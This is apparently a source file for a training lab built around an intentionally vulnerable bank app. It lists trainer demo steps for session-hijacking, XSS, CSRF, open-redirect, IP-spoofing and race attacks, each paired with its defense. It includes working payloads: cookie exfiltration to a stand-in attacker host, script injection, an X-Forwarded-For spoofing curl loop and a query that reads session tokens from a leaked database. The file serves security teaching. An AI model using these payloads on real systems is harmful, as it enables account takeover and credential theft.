// What the lab console shows a trainer for each flaw: the demo, for two browser windows — the
// victim's (a normal window) and the attacker's (a private window, its own cookies) — and what
// the room should see. {bank} and {attacker} stand for the two addresses `npm run lab` printed;
// the console's time-travel buttons stand in for the minutes and hours a demo cannot wait.
// The full scripts, with the fix and the test that proves it, are in docs/trainer-guide.md.
import type { FlawName } from "./flaw-names";

export type Demo = {
  steps: readonly string[];
  /** The attack's result with the flaw on, then with the defense in place. */
  expected: string;
};

/** A well-formed session ID (43 URL-safe characters) for the fixation demo to plant. */
export const PLANTED_ID = "MalloryPlantedThisSessionId_0123456789abcde";

const COPY_COOKIE =
  "Victim: sign in as alice@vaultline.test, then choose “Leak this session to Mallory” under the session inspector: the copy a thief got from malware, a proxy log or a backup.";
const USE_COPY = "Attacker: open {attacker}/view, paste the copy and choose Open the bank with it: Alice's accounts.";
const USE_COPY_AGAIN = "Attacker: on {attacker}/view, open the bank with the copy again.";
// Acting as the victim (a transfer) needs the copy in the attacker's own browser.
const COPY_INTO_BROWSER =
  "Attacker: copy the ID from the inbox; in DevTools → Application → Cookies for {bank}, set vaultline.session to it and open {bank}/dashboard: Alice's accounts.";

/** What a leaked copy of the lab's sessions table says about Alice's live sessions (run in the project folder). */
const READ_SESSIONS_TABLE = `node -e 'const db = require("better-sqlite3")("prisma/lab.db"); console.log(db.prepare("SELECT s.tokenHash FROM Session s JOIN User u ON u.id = s.userId WHERE u.email = ? AND s.endedAt IS NULL").pluck().all("alice@vaultline.test"))'`;

export const DEMOS: Record<FlawName, Demo> = {
  fixation: {
    steps: [
      `Victim: before signing in, set the vaultline.session cookie for {bank} to ${PLANTED_ID} (what a planted link, a sibling subdomain or an XSS achieves), then sign in as alice@vaultline.test.`,
      `Attacker: set the same cookie, ${PLANTED_ID}, in the private window and open {bank}/dashboard.`,
    ],
    expected:
      "Flaw on: the attacker is in Alice's accounts with the ID she chose. Defense: sign-in issued a new ID; the planted one opens nothing.",
  },
  "no-server-logout": {
    steps: [COPY_COOKIE, USE_COPY, "Victim: Sign out.", USE_COPY_AGAIN],
    expected:
      "Flaw on: the copy still opens Alice's accounts after she signed out. Defense: the session ended on the server; the copy lands on the sign-in page.",
  },
  "readable-cookie": {
    steps: [
      "Victim: sign in as alice@vaultline.test (after switching: HttpOnly is decided when the cookie is issued).",
      "Victim: in the DevTools console run document.cookie, which is what any injected script runs.",
      'Victim: send it to the attacker as an XSS payload would (switch no-csp on too, or the CSP blocks the request): new Image().src = "{attacker}/steal?c=" + encodeURIComponent(document.cookie)',
      "Attacker: the inbox below shows the cookie; open {attacker}/view and choose Open the bank with it: Alice's accounts.",
    ],
    expected:
      "Flaw on: document.cookie shows vaultline.session, it arrives in the inbox, and the attacker is Alice. Defense: the session cookie is invisible to script; nothing to steal.",
  },
  "persistent-cookie": {
    steps: [
      "Victim (on a shared computer): sign in as alice@vaultline.test (after switching: a cookie's lifetime is decided when it is issued). DevTools → Application → Cookies: vaultline.session's Expires column shows a date, not “Session”.",
      "Victim: close the browser, every window of it, without signing out (a browser set to restore the last session keeps session cookies too: turn that off for the demo).",
      "Attacker (the next person at that computer): start the browser again and open {bank}/dashboard.",
    ],
    expected:
      "Flaw on: the cookie outlived the browser and Alice's accounts open (within her idle limit). Defense: a session cookie dies with the browser; the next person meets the sign-in page.",
  },
  "no-cache-control": {
    steps: [
      "Victim (on a shared computer): sign in as alice@vaultline.test, look at the dashboard, then Sign out.",
      "Attacker (the next person at that computer, same window): press Back.",
    ],
    expected:
      "Flaw on: Back shows Alice's balances from the browser's cache (Cache-Control: private, max-age=600). Defense: no-store; Back shows no balances.",
  },
  "no-rotation-on-step-up": {
    steps: [
      COPY_COOKIE,
      COPY_INTO_BROWSER,
      "Trainer: press “Sign-ins past step-up freshness” below: a transfer now needs the password again.",
      "Attacker: start a transfer: it asks for a password she does not know.",
      "Victim: send a transfer and confirm it with the password (alice-demo-pass-1).",
      "Attacker: send 900.00 to Mallory's account VL-1003-0001.",
    ],
    expected:
      "Flaw on: the attacker's transfer goes through without the password: her copy shares the victim's fresh step-up. Defense: the step-up issued a new ID; the copy is dead.",
  },
  "no-reuse-detection": {
    steps: [
      COPY_COOKIE,
      USE_COPY,
      "Trainer: press “Sign-ins past step-up freshness”; Victim: send a transfer and confirm it with the password (the session moves to a new ID).",
      USE_COPY_AGAIN,
    ],
    expected:
      "Flaw on: the rotated-out ID still opens the accounts and nobody is told. Defense: the reuse ends the whole session family (the victim is signed out too) and a security event says why.",
  },
  "no-idle-timeout": {
    steps: [
      "Victim: sign in as alice@vaultline.test, close the tab (not the window: an open tab's warning would sign out at zero) and walk away.",
      "Trainer: press “Every session idle past the high tier” below.",
      "Attacker (at the victim's computer): open {bank}/transfers.",
    ],
    expected:
      "Flaw on: the transfer page opens; only the browser's warning knew about the inactivity. Defense: signed out “after 15 minutes of inactivity” (the dashboard, a 30-minute page, would still open).",
  },
  "no-absolute-timeout": {
    steps: [
      "Victim: sign in as alice@vaultline.test (the thief keeps this session busy).",
      "Trainer: press “Sign-ins past the absolute lifetime”.",
      "Victim: reload the dashboard.",
    ],
    expected:
      "Flaw on: a 13-hour-old session still works. Defense: signed out at the 12-hour absolute lifetime, however busy the session was.",
  },
  "no-revoke-on-password-change": {
    steps: [
      COPY_COOKIE,
      USE_COPY,
      "Victim: Security → Change password (current alice-demo-pass-1; Reset restores it).",
      USE_COPY_AGAIN,
    ],
    expected:
      "Flaw on: the attacker's copy keeps working after the victim changed the password. Defense: every other session ended at once; the copy lands on the sign-in page.",
  },
  "concurrent-admin": {
    steps: [
      "Attacker (a stolen admin session): sign in as admin@vaultline.test (admin-demo-pass-1), Profile → Admin panel, confirm the password.",
      "Victim (the real admin): sign in as admin@vaultline.test and open the Admin panel.",
      "Attacker: reload the admin panel.",
    ],
    expected:
      "Flaw on: both admin panels stay open, the stolen one unnoticed. Defense (newest-wins): the attacker's elevated session ends and is told why.",
  },
  "weak-token": {
    steps: [
      "Attacker: sign in as mallory@vaultline.test and choose “Leak this session to Mallory”: your own cookie arrives in the inbox below; decode it as base64url (any online decoder).",
      "Victim: sign in as alice@vaultline.test, and say roughly when.",
      "Attacker: write alice@vaultline.test in place of your email and the seconds of her sign-in in place of yours, encode it back, and try each candidate second on {attacker}/view (paste it, Open the bank with it).",
    ],
    expected:
      "Flaw on: the ID is the email and the time; a few guesses open Alice's accounts. Defense: 256 random bits; nothing in one ID says anything about another.",
  },
  "token-in-url": {
    steps: [
      "Victim: sign in as alice@vaultline.test (after switching) and open an account from the dashboard: every link now carries ?sid=.",
      "Victim: copy the address bar and paste it to the attacker, as into a support chat or a bug report.",
      "Attacker: open the pasted link in the private window, with no cookie of the bank at all.",
    ],
    expected:
      "Flaw on: the link alone opens Alice's account. Defense: the ID travels only in the cookie; no link carries it, and the link pasted earlier, opened again, lands on sign-in.",
  },
  "plaintext-tokens": {
    steps: [
      "Victim: sign in as alice@vaultline.test (after switching: sessions stored the other way are no longer found, so their holders sign in again).",
      `Attacker (holding a leaked backup of the database): read Alice's live sessions from the copy, e.g. in a terminal in the project folder: ${READ_SESSIONS_TABLE}`,
      "Attacker: paste a value it printed into {attacker}/view and choose Open the bank with it.",
    ],
    expected:
      "Flaw on: the table holds the tokens themselves; a row opens Alice's accounts. Defense: the table holds SHA-256 digests (64 hex characters); a digest opens nothing and nothing turns it back into the token.",
  },
  "token-in-logs": {
    steps: [
      "Victim: sign in as alice@vaultline.test.",
      "Attacker (reading the server's logs: an operator, a log service, a foothold on the log host): in the terminal where npm run lab runs, find the newest JSON line with “msg”: “sign-in” and “client”: “web”.",
      "Attacker: paste the value of its “session” field into {attacker}/view and choose Open the bank with it.",
    ],
    expected:
      "Flaw on: the log line holds the token; it opens Alice's accounts. Defense: the line names the session by the 8-character fingerprint of its hash (the inspector's), which opens nothing.",
  },
  csrf: {
    steps: [
      "Victim: sign in as alice@vaultline.test (after switching: the cookie's SameSite is decided when it is issued).",
      "Victim: in a new tab, open the attacker's prize page, {attacker}/prize (it submits a forged sign-out as it loads).",
      "Victim: go back to the bank tab and reload.",
    ],
    expected:
      "Flaw on: the other site's page signed Alice out (and could keep an idle session alive); a forged transfer still fails on Next.js's own server-action origin check. Defense: a write from another origin is refused with 403 before anything runs, and SameSite=Strict keeps the cookie off it.",
  },
  "stored-xss": {
    steps: [
      "Attacker: sign in as mallory@vaultline.test and send Alice $1.00 with a memo of markup, e.g. <b>refund</b> or the refresh payload from docs/trainer-guide.md.",
      "Victim: sign in as alice@vaultline.test: the dashboard's recent activity already renders the memo (and so does the account's history).",
      "Switch no-csp and readable-cookie on too, and send a memo whose markup sends document.cookie to the attacker (an <img>'s handler runs wherever the markup lands; a <script> only in a page's first HTML): <img src=x onerror=\"new Image().src='{attacker}/steal?c='+encodeURIComponent(document.cookie)\">. Watch the inbox.",
    ],
    expected:
      "Flaw on: the memo renders as markup (under the CSP, a refresh still carries the page to the attacker; without it and HttpOnly, the cookie arrives in the inbox). Defense: memos are text; the markup shows as typed.",
  },
  "no-login-throttle": {
    steps: [
      "Attacker: sign in as bob@vaultline.test with five wrong passwords.",
      "Attacker: then with the right one, bob-demo-pass-1 (the tenth guess of a password list).",
    ],
    expected:
      "Flaw on: every guess is checked and the right one gets in. Defense: after 5 failures the email waits 15 minutes (longer at each further 5), and even the right password gets the same refusal.",
  },
  "tier-reopen": {
    steps: [
      "Victim: sign in as alice@vaultline.test, close the tab (not the window) and walk away.",
      "Trainer: press “Every session idle past the high tier”.",
      "Attacker (at the victim's computer): open {bank}/profile (a 60-minute page), then {bank}/security (15 minutes).",
    ],
    expected:
      "Flaw on: the profile visit reset the idle clock and the security settings open. Defense: the gap closed the high tier for the rest of the session; /security signs out for inactivity.",
  },
  "attempt-race": {
    steps: [
      "Explain: Mallory has a stolen session but not the password, and step-up allows 5 guesses.",
      "Run the attack, which sends 14 wrong guesses at once and then the real password: npx playwright test e2e/attacks/attempt-race.spec.ts --no-deps",
    ],
    expected:
      "Flaw on: every concurrent guess is checked before any is counted and the real password is confirmed. Defense: exactly 5 are checked; every other answer is the same refusal.",
  },
  "revocation-snapshot": {
    steps: [
      "Explain: Mallory knows Alice's old password and signs in with it again and again; Alice changes her password to lock her out.",
      "Run the attack, which keeps signing in as Alice while her password change runs: npx playwright test e2e/attacks/revocation-snapshot.spec.ts --no-deps",
    ],
    expected:
      "Flaw on: a sign-in that checked the old password just before the change lands just after it, and Mallory's new session keeps working. Defense: it was authenticated with the old credential generation, so its first request is refused (password changed).",
  },
  "overdraft-race": {
    steps: [
      "Explain: a customer with $100 sends ten transfers of $100 at once, from two tabs, a script or two phones.",
      "Run the attack, which signs in as a customer of its own and sends them all at once: npx playwright test e2e/attacks/overdraft-race.spec.ts --no-deps",
      "Trainer: open the customer's history in the admin panel, or read the attack's output: the balance after the burst.",
    ],
    expected:
      "Flaw on: several transfers pass the balance check together and the account ends below zero. Defense: exactly one goes through; the others are refused for funds, because the check and the debit are one statement.",
  },
  "open-redirect": {
    steps: [
      "Victim: open the phishing mail's link, the genuine sign-in page: {bank}/signin?next={attacker}/phish",
      "Victim: sign in as alice@vaultline.test, then type the password again where asked.",
    ],
    expected:
      "Flaw on: after a genuine sign-in the victim lands on the attacker's look-alike, and the password typed there arrives in the inbox. Defense: the victim lands on the bank's own dashboard.",
  },
  "spoofable-ip": {
    steps: [
      "Attacker: 25 failed sign-ins from one machine, each claiming a new address (unknown emails, so only the per-address limit can stop them):",
      `for i in $(seq 25); do curl -s -o /dev/null -w "%{http_code} " -H "X-Forwarded-For: 203.0.113.$i" -H "Content-Type: application/json" -d "{\\"email\\":\\"nobody$i@vaultline.test\\",\\"password\\":\\"guess\\"}" {bank}/api/v1/sessions; done`,
      'Attacker: then the stolen password: curl -s -H \'Content-Type: application/json\' -d \'{"email":"bob@vaultline.test","password":"bob-demo-pass-1"}\' {bank}/api/v1/sessions',
    ],
    expected:
      "Flaw on: every try counts against a different address: all 401, then 201 and a token. Defense: the address is the socket's: after 20 failures everything is 429, the right password included.",
  },
  "no-csp": {
    steps: [
      "Victim: sign in as alice@vaultline.test.",
      'Victim: inject a script as an XSS would, in the DevTools console: document.body.append(Object.assign(document.createElement("script"), { src: "{attacker}/hook.js" }))',
    ],
    expected:
      "Flaw on: the script loads and reports the page (and, with readable-cookie, the cookie) to the inbox. Defense: the browser refuses the script (a CSP violation in the console); nothing arrives.",
  },
  clickjacking: {
    steps: [
      "Victim: sign in as alice@vaultline.test.",
      "Victim: open the attacker's prize page on the same site but another port: http://localhost:{attackerPort}/frame",
    ],
    expected:
      "Flaw on: the signed-in dashboard shows through the decoy and the victim's clicks land on the bank. Defense: the browser refuses to frame the bank.",
  },
  idor: {
    steps: [
      "Victim: sign in as alice@vaultline.test and send $1.00 to Bob (VL-1002-0001) with a memo; the receipt's address ends in its reference (what a screenshot, a shared link or a support chat gives away).",
      "Attacker: in the private window sign in as mallory@vaultline.test and open the victim's receipt address.",
      "Attacker: ending the victim's session by its ID the same way: npx playwright test e2e/attacks/idor.spec.ts --no-deps --project=attacks-vs-flawed",
    ],
    expected:
      "Flaw on: Mallory reads Alice's account number, memo and new balance, and ends Alice's session from her own sessions page. Defense: another customer's receipt is “not found”, exactly like one that does not exist, and their session lives on.",
  },
  "unfair-hash-queue": {
    steps: [
      "Explain: every bcrypt check waits for one of (cores - 1) slots. Mallory signs in once through the API and keeps sending correct step-ups, a few at a time: each one is a bcrypt check, and a correct one is never refused.",
      "Run the attack, which floods Mallory's step-ups and signs Alice in behind the flood: npx playwright test e2e/attacks/unfair-hash-queue.spec.ts --no-deps",
      "Or by hand: start the flood in one terminal, then sign in as alice@vaultline.test in the browser and feel the wait.",
    ],
    expected:
      "Flaw on: Alice's sign-in waits behind the whole of Mallory's queued flood (her answer comes after most of it). Defense: Mallory's checks wait behind each other, so Alice waits for at most the one running, and her answer arrives while the flood is still queued.",
  },
  "no-lockout-escalation": {
    steps: [
      "Explain: the attacker guesses slowly, five passwords then a 15-minute pause, around the clock; NIST SP 800-63B caps consecutive failures at 100, Vaultline stops at 20.",
      "Run the attack, which simulates 6 hours of such guessing in seconds by ageing the failures in the database, with Bob's password as the last guess: npx playwright test e2e/attacks/no-lockout-escalation.spec.ts --no-deps --project=attacks-vs-flawed",
      "Secure server (admin@vaultline.test, admin panel): after 20 consecutive failures the account shows “locked”; press Unlock and the right password works again.",
    ],
    expected:
      "Flaw on: every round of guesses is checked, forever, and the right password gets in. Defense: the waits double (15, 30, 60 minutes) and after 20 consecutive failures no password is checked until an administrator unlocks the account; locked, unknown and wrong look the same to the client.",
  },
};
